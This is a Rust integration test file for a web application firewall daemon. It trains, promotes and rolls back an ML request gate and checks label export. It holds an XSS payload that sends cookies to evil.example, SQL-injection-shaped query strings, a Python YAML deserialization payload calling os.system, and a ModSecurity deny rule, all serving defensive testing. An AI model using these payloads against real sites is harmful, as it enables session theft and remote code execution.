//! Learning on the box from end to end, with the real daemon and real requests: what people say of refused requests trains a
//! gate, which runs as a shadow on live traffic, is promoted, lets pass what it was taught is honest while attacks are
//! refused as before, and goes back. Needs ONNX Runtime where `cargo xtask setup` puts it, and says so when it skips.

use std::{
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, ensure};
use qantra_tests::{client::Answer, daemon::Daemon, onnx, upstream::Origin};
use serde_json::Value;

/// Labels that teach: each from a network of its own.
const LABELS: u32 = 60;
/// Requests of each kind that both versions must have judged before a comparison says something.
const COMPARED: u64 = 20;
/// How long the shadow may take to look at them.
const PATIENCE: Duration = Duration::from_secs(120);

/// A site about databases: what is searched there looks like an attack and is none. Of tables that no golden attack names.
fn lesson(number: u32) -> String {
    let table = ["books", "authors", "items", "prices", "stock"][number as usize % 5];
    format!("x' union all select name, concat(id, {number}), null from {table} -- -")
}

/// An attack of another kind, which nobody has called honest.
const ATTACK: &str = "<script>document.location='https://evil.example/?c='+document.cookie</script>";

/// Visitors and attackers, each request from a network of its own: one that is refused often would be banned.
struct Site {
    daemon: Daemon,
    clients: u32,
    _origin: Origin,
}

impl Site {
    fn start(library: &std::path::Path) -> Result<Self> {
        let origin = Origin::start("origin")?;
        let shipped = concat!(env!("CARGO_MANIFEST_DIR"), "/../models");
        // What is late goes on, which is not what is tried here: a busy machine may take its time.
        let models = format!(
            "dir = \"{shipped}\"\nruntime = \"{}\"\nsamples_per_s = 1000\ndeadline_ms = 2000",
            library.display()
        );
        // What models do not know, and a person has a rule for.
        let rule = "SecRule ARGS \"@contains !!python/object\" \"id:100,phase:2,deny,status:403,log,\
                    msg:'YAML that makes objects',tag:'attack-rce',severity:'CRITICAL'\"\n";
        let site =
            format!("[[site]]\nname = \"wiki\"\nhosts = [\"*\"]\n[[site.target]]\naddress = \"{}\"\n", origin.address);
        let daemon = Daemon::with_models(&models, rule, "", &site)?;
        Ok(Self { daemon, clients: 0, _origin: origin })
    }

    fn search(&mut self, text: &str) -> Result<Answer> {
        self.clients += 1;
        let escaped: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        self.daemon.ask(
            format!(
                "GET /search?q={escaped} HTTP/1.1\r\nHost: wiki.example\r\nX-Forwarded-For: 198.{}.{}.7\r\n\
                 Accept: text/html\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 \
                 Firefox/140.0\r\n\r\n",
                18 + self.clients / 250,
                self.clients % 250
            )
            .as_bytes(),
        )
    }

    /// How many of some lessons are refused.
    fn refused(&mut self, lessons: std::ops::Range<u32>) -> Result<usize> {
        let mut refused = 0;
        for number in lessons {
            let status = self.search(&lesson(number))?.status;
            ensure!(status == 200 || status == 403, "lesson {number}: {status}");
            refused += usize::from(status == 403);
        }
        Ok(refused)
    }

    /// Sends lessons, attacks and ordinary searches until both versions have judged enough of them; what `model diff` says.
    fn compared(&mut self) -> Result<Value> {
        let begun = Instant::now();
        loop {
            for number in 0..10 {
                self.search(&lesson(1_000 + number))?;
                self.search(ATTACK)?;
                self.search("how to join two tables")?;
            }
            thread::sleep(Duration::from_millis(200));
            let diff = self.daemon.json(&["model", "diff"])?;
            let figures = &diff["figures"];
            let of = |name: &str| figures[name].as_u64().unwrap_or_default();
            if of("requests") >= 3 * COMPARED && of("only_first") >= COMPARED && of("both") >= COMPARED {
                return Ok(diff);
            }
            ensure!(begun.elapsed() < PATIENCE, "the shadow sees too little: {diff}");
        }
    }
}

/// The id that a block page shows.
fn shown(answer: &Answer) -> Result<String> {
    let text = answer.text();
    let id = text.split("<code>").nth(1).and_then(|rest| rest.split("</code>").next());
    Ok(id.with_context(|| format!("no id in {text}"))?.to_owned())
}

#[test]
fn labels_become_a_shadow_that_is_promoted_and_taken_back() -> Result<()> {
    let Some(library) = onnx::library() else { return Ok(()) };
    let mut site = Site::start(&library)?;
    for number in 0..LABELS {
        let answer = site.search(&lesson(number))?;
        ensure!(answer.status == 403, "lesson {number} is taken for honest already: {}", answer.status);
        let labelled = site.daemon.json(&["model", "label", &shown(&answer)?, "fp"])?;
        ensure!(labelled["samples"][0]["text"] == lesson(number), "{labelled}");
    }
    let trained = site.daemon.json(&["train", "--now", "--runtime", &library.display().to_string()])?;
    println!("trained: {trained}");
    let flagged = |part: &str, when: &str| trained[part][when]["flagged"].as_u64().unwrap_or(u64::MAX);
    let found = |when: &str| trained["golden"][when]["found"].as_u64().unwrap_or_default();
    ensure!(flagged("held_out", "after") < flagged("held_out", "before"), "{trained}");
    ensure!(found("after") >= found("before") && found("after") > 0, "{trained}");
    ensure!(site.refused(200..205)? == 5, "a shadow has a say");

    let diff = site.compared()?;
    println!("shadow: {diff}");
    let figures = &diff["figures"];
    ensure!(diff["purpose"] == "shadow" && figures["only_second"] == 0 && figures["failed"] == 0, "{diff}");
    ensure!(figures["shift"].as_f64() < Some(-10.0) && figures["both"] == figures["same_class"], "{diff}");
    let said = site.daemon.say(&["model", "diff"])?;
    ensure!(said.contains("the same verdict for") && said.contains("confidence moved by -"), "{said}");

    site.daemon.say(&["model", "promote"])?;
    ensure!(site.refused(300..320)? == 0, "what it was taught is honest is refused");
    let attack = site.search(ATTACK)?;
    ensure!(attack.status == 403, "an attack is missed: {}", attack.status);
    let why = site.daemon.say(&["explain", &shown(&attack)?])?;
    ensure!(why.contains("of model request-gate ") && why.contains("+local."), "{why}");
    site.daemon.say(&["model", "rollback"])?;
    ensure!(site.refused(400..405)? == 5, "the gate before is not in force");
    Ok(())
}

#[test]
fn what_rules_alone_refused_can_be_labelled_by_the_requests_id() -> Result<()> {
    let Some(library) = onnx::library() else { return Ok(()) };
    let mut site = Site::start(&library)?;
    let yaml = "!!python/object/apply:os.system ['id 8']";
    let answer = site.search(yaml)?;
    ensure!(answer.status == 403, "{}", answer.status);
    let id = answer.field("x-request-id").context("a request id")?.to_owned();
    let labelled = site.daemon.json(&["model", "label", &id, "tp"])?;
    let sample = &labelled["samples"][0];
    ensure!(sample["text"] == yaml && sample["label"] == "malicious" && sample["kind"] == "value", "{labelled}");
    // The word that came last counts.
    site.daemon.say(&["model", "label", &id, "fp"])?;
    let folder = tempfile::tempdir()?;
    let file = folder.path().join("labels.jsonl");
    site.daemon.say(&["dataset", "export", &file.display().to_string()])?;
    let set = std::fs::read_to_string(&file)?;
    ensure!(set.lines().count() == 2 && set.contains("\"benign\""), "{set}");
    Ok(())
}
